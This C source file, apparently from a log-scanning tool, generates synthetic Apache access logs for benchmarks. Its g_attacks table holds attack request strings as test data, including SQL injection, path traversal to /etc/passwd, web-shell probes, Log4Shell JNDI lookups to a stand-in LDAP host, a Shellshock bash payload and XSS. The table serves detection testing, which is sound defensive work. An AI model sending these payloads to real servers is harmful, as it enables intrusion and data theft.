/* mamori-gen-access SIZE_MB SEED — writes about SIZE_MB MiB of synthetic Apache
 * combined-format access log to stdout for bench/bench_scan.sh: a month of a
 * busy shop's benign traffic (browsers, crawlers, monitoring, many clients) with
 * about 0.5% attack lines from RFC 5737 addresses. Deterministic for a seed;
 * fast (one snprintf per line, 1 MiB writes) so a 1 GB file takes seconds. */
#include "gen_common.h"

#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#define AVG_LINE 260 /* bytes; only used to spread timestamps over 30 days */
#define SPAN_SECS (30 * 86400)
#define TZ_MIN 540
#define OUTBUF (1u << 20)

struct attack {
	const char *method, *target;
	unsigned status;
	const char *ua;
};

#define UA_FF "Mozilla/5.0 (X11; Linux x86_64; rv:115.0) Gecko/20100101 Firefox/115.0"

/* One per web rule class, so a bench run also exercises every rule. */
static const struct attack g_attacks[] = {
	{"GET", "/products.php?id=-4021%20UNION%20ALL%20SELECT%20NULL,CONCAT(0x71,0x72),NULL--%20-",
	 200, "sqlmap/1.8.4#stable (https://sqlmap.org)"},
	{"GET", "/products.php?id=1%27%20AND%204912=4912--%20kZpa", 200, UA_FF},
	{"GET", "/products.php?id=1%20AND%20SLEEP(5)", 200, UA_FF},
	{"GET", "/search?q=1+union+select+table_name+from+information_schema.tables", 200, UA_FF},
	{"GET", "/download.php?file=../../../../etc/passwd", 200, UA_FF},
	{"GET", "/static/..%2f..%2f..%2fwindows%2fwin.ini", 400, UA_FF},
	{"GET", "/c99.php", 404, UA_FF},
	{"GET", "/shell.php?cmd=whoami", 404, UA_FF},
	{"GET", "/", 200, "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000431)"},
	{"GET", "/", 200, "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"},
	{"GET", "/", 200, "${jndi:ldap://198.51.100.23:1389/a}"},
	{"GET", "/?x=%24%7B%24%7Blower:j%7Dndi:ldap://198.51.100.23/a%7D", 200, UA_FF},
	{"GET", "/.env", 404, "Go-http-client/1.1"},
	{"GET", "/.git/config", 404, "Go-http-client/1.1"},
	{"GET", "/wp-config.php.bak", 404, "Go-http-client/1.1"},
	{"GET", "/server-status", 403, UA_FF},
	{"GET", "/cgi-bin/status", 404, "() { :; }; /bin/bash -c 'id'"},
	{"GET", "/search?q=%3Cscript%3Ealert(1)%3C/script%3E", 200, UA_FF},
	{"GET", "/index.php?page=php://filter/convert.base64-encode/resource=config", 200, UA_FF},
};
#define NATTACKS (sizeof(g_attacks) / sizeof(g_attacks[0]))

static int parse_u64(const char *s, uint64_t *out)
{
	char *end;
	errno = 0;
	unsigned long long v = strtoull(s, &end, 10);
	if (errno || end == s || *end || s[0] == '-')
		return -1;
	*out = v;
	return 0;
}

int main(int argc, char **argv)
{
	uint64_t mb, seed;
	if (argc != 3 || parse_u64(argv[1], &mb) || parse_u64(argv[2], &seed) || mb == 0 ||
	    mb > 1000000) {
		fputs("usage: mamori-gen-access SIZE_MB SEED > FILE\n"
		      "Writes about SIZE_MB MiB of combined-format access log (deterministic per SEED).\n",
		      stderr);
		return 2;
	}
	uint64_t target = mb << 20, written = 0, est_lines = target / AVG_LINE + 1, line = 0;
	struct gen_rng r;
	gen_rng_seed(&r, seed);
	int64_t t0 = gen_days_from_civil(2026, 11, 1) * 86400, last_t = -1;
	char *buf = malloc(OUTBUF);
	if (!buf) {
		fputs("mamori-gen-access: out of memory\n", stderr);
		return 2;
	}
	size_t used = 0;
	char ts[40], ip[64], target_buf[256], ref[256];

	while (written + used < target) {
		int64_t t = t0 + (int64_t)(line * SPAN_SECS / est_lines);
		if (t != last_t) { /* format the time once per second */
			gen_fmt_clf_time(ts, sizeof(ts), t, TZ_MIN);
			last_t = t;
		}
		struct gen_req q = {.ip = ip, .time = ts, .method = "GET"};
		uint32_t roll = gen_below(&r, 1000);
		if (roll < 5) { /* 0.5% attacks */
			const struct attack *a = &g_attacks[gen_below(&r, NATTACKS)];
			/* one RNG call per statement (argument order is unspecified in C) */
			const char *net = gen_chance(&r, 50) ? "203.0.113" : "198.51.100";
			snprintf(ip, sizeof(ip), "%s.%u", net, 1 + gen_below(&r, 254));
			q.method = a->method;
			q.target = a->target;
			q.status = a->status;
			q.bytes = a->status == 200 ? 14388 : 196;
			q.ua = a->ua;
		} else {
			/* many clients: TEST-NET-1 and a /8 of private space */
			uint32_t c = gen_below(&r, 200000);
			if (c < 254)
				snprintf(ip, sizeof(ip), "192.0.2.%u", c + 1);
			else
				snprintf(ip, sizeof(ip), "10.%u.%u.%u", c >> 16 & 255, c >> 8 & 255, c & 255);
			int bot = c % 17 == 0;
			q.ua = bot ? gen_bot_uas[c % gen_nbot_uas] : gen_browser_uas[c % gen_nbrowser_uas];
			if (roll < 600 && !bot) {
				const struct gen_page *p = &gen_assets[gen_below(&r, (uint32_t)gen_nassets)];
				int cached = gen_chance(&r, 40);
				q.target = p->path;
				q.status = cached ? 304 : 200;
				q.bytes = cached ? 0 : p->bytes;
				snprintf(ref, sizeof(ref), "https://www.example.com%s",
				         gen_pages[gen_below(&r, (uint32_t)gen_npages)].path);
				q.referer = ref;
			} else if (roll < 640) {
				const char *term = gen_search_terms[gen_below(&r, (uint32_t)gen_nsearch)];
				snprintf(target_buf, sizeof(target_buf), "/search?q=%s&page=%u", term,
				         1 + gen_below(&r, 3));
				q.target = target_buf;
				q.status = 200;
				q.bytes = 9000 + gen_below(&r, 2000);
			} else if (roll < 660) {
				q.target = gen_chance(&r, 50) ? "/apple-touch-icon.png" : "/wp-login.php";
				q.status = 404;
				q.bytes = 196;
			} else if (roll < 670) {
				q.method = "POST";
				q.target = "/cart/add";
				q.status = 302;
				q.bytes = 0;
			} else {
				const struct gen_page *p = &gen_pages[gen_below(&r, (uint32_t)gen_npages)];
				q.target = p->path;
				q.status = gen_below(&r, 500) == 0 ? 500 : 200;
				q.bytes = p->bytes - p->bytes / 20 + gen_below(&r, p->bytes / 10 + 1);
				if (gen_chance(&r, 40))
					q.referer = gen_ext_referers[gen_below(&r, (uint32_t)gen_next_referers)];
			}
		}
		if (OUTBUF - used < 4096) {
			if (fwrite(buf, 1, used, stdout) != used)
				goto write_error;
			written += used;
			used = 0;
		}
		used += gen_fmt_combined(buf + used, OUTBUF - used, &q);
		line++;
	}
	if (used && fwrite(buf, 1, used, stdout) != used)
		goto write_error;
	if (fflush(stdout) != 0)
		goto write_error;
	free(buf);
	return 0;
write_error:
	fprintf(stderr, "mamori-gen-access: write error: %s\n", strerror(errno));
	free(buf);
	return 1;
}
